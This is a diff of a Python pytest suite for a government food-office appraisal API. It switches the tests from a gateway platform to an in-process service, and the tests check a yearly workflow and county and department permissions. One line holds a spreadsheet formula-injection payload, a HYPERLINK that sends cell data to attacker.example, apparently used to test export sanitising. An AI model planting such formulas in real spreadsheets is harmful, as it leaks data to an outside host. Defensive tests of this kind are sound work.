@@ -1,4 +1,4 @@
-"""A whole Zhumadian year through the gateway with real tokens, from opening to rectification,
+"""A whole Zhumadian year in process (tokens as the gateway signs them), from opening to rectification,
 with a veto in one county and in a zone; and who may see and write what."""
 
 from __future__ import annotations
@@ -12,7 +12,8 @@ import pytest
 from docx import Document
 from openpyxl import load_workbook
 
-from platformctl.testing import Platform, assert_problem
+from platformctl.testing import assert_problem
+from shared.testing import ServiceInProcess
 from shared.testing_documents import assert_a4_landscape, pdf_pages, pdf_text, render_with_libreoffice
 
 BASE = "/api/appraisal/v1"
@@ -29,19 +30,23 @@ PRINTED: dict[str, Any] = {}
 FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
 
 
-@pytest.fixture(scope="module")
-async def users(platform: Platform) -> dict[str, dict[str, str]]:
+@pytest.fixture
+def service(appraisal_service: ServiceInProcess) -> ServiceInProcess:
+    """Appraisal in this process, what a test writes rolled back at its end."""
+    return appraisal_service
+
+
+@pytest.fixture
+async def users(service: ServiceInProcess) -> dict[str, dict[str, str]]:
     return {
-        "city": await platform.account("zmd-food-office", scopes=RW, jurisdictions=["411700"]),
-        "market": await platform.account("zmd-market", scopes=RW, jurisdictions=["411700"], units=[MARKET]),
-        "farming": await platform.account(
-            "zmd-farming", scopes=RW, jurisdictions=["411700"], units=[FARMING]
-        ),
-        "xiping": await platform.account("zmd-411721", scopes=RW, jurisdictions=["411721"]),
-        "shangcai": await platform.account("zmd-411722", scopes=RW, jurisdictions=["411722"]),
-        "panjin": await platform.account("pj-food-office", scopes=RW, jurisdictions=["211100"]),
-        "shuangtaizi": await platform.account("pj-211102", scopes=RW, jurisdictions=["211102"]),
-        "panjin-market": await platform.account(
+        "city": await service.account("zmd-food-office", scopes=RW, jurisdictions=["411700"]),
+        "market": await service.account("zmd-market", scopes=RW, jurisdictions=["411700"], units=[MARKET]),
+        "farming": await service.account("zmd-farming", scopes=RW, jurisdictions=["411700"], units=[FARMING]),
+        "xiping": await service.account("zmd-411721", scopes=RW, jurisdictions=["411721"]),
+        "shangcai": await service.account("zmd-411722", scopes=RW, jurisdictions=["411722"]),
+        "panjin": await service.account("pj-food-office", scopes=RW, jurisdictions=["211100"]),
+        "shuangtaizi": await service.account("pj-211102", scopes=RW, jurisdictions=["211102"]),
+        "panjin-market": await service.account(
             "pj-market", scopes=RW, jurisdictions=["211100"], units=["盘锦市市场监管局"]
         ),
     }
@@ -57,15 +62,15 @@ async def move(client: httpx.AsyncClient, year: int, to: str, **extra: Any) -> N
 
 
 async def test_a_zhumadian_year_from_opening_to_rectification(
-    platform: Platform, users: dict[str, dict[str, str]]
+    service: ServiceInProcess, users: dict[str, dict[str, str]]
 ) -> None:
     year = 2024
     years = f"{BASE}/years/{year}"
-    city = platform.client(headers=users["city"])
-    market = platform.client(headers=users["market"])
-    farming = platform.client(headers=users["farming"])
-    xiping = platform.client(headers=users["xiping"])
-    shangcai = platform.client(headers=users["shangcai"])
+    city = service.client(headers=users["city"])
+    market = service.client(headers=users["market"])
+    farming = service.client(headers=users["farming"])
+    xiping = service.client(headers=users["xiping"])
+    shangcai = service.client(headers=users["shangcai"])
     async with city, market, farming, xiping, shangcai:
         opened = ok(
             await city.post(f"{BASE}/years", json={"scheme": "zhumadian", "year": year, "ad_hoc_cap": 10})
@@ -414,15 +419,15 @@ async def test_the_results_print_as_staff_would_print_them() -> None:
 
 
 async def test_county_and_department_scopes_through_the_gateway(
-    platform: Platform, users: dict[str, dict[str, str]]
+    service: ServiceInProcess, users: dict[str, dict[str, str]]
 ) -> None:
     year = 2106
     years = f"{BASE}/years/{year}"
     async with (
-        platform.client(headers=users["panjin"]) as city,
-        platform.client(headers=users["shuangtaizi"]) as county,
-        platform.client(headers=users["panjin-market"]) as department,
-        platform.client(headers=users["city"]) as zhumadian,
+        service.client(headers=users["panjin"]) as city,
+        service.client(headers=users["shuangtaizi"]) as county,
+        service.client(headers=users["panjin-market"]) as department,
+        service.client(headers=users["city"]) as zhumadian,
     ):
         assert_problem(await county.post(f"{BASE}/years", json={"scheme": "panjin", "year": year}), 403)
         ok(await city.post(f"{BASE}/years", json={"scheme": "panjin", "year": year}))
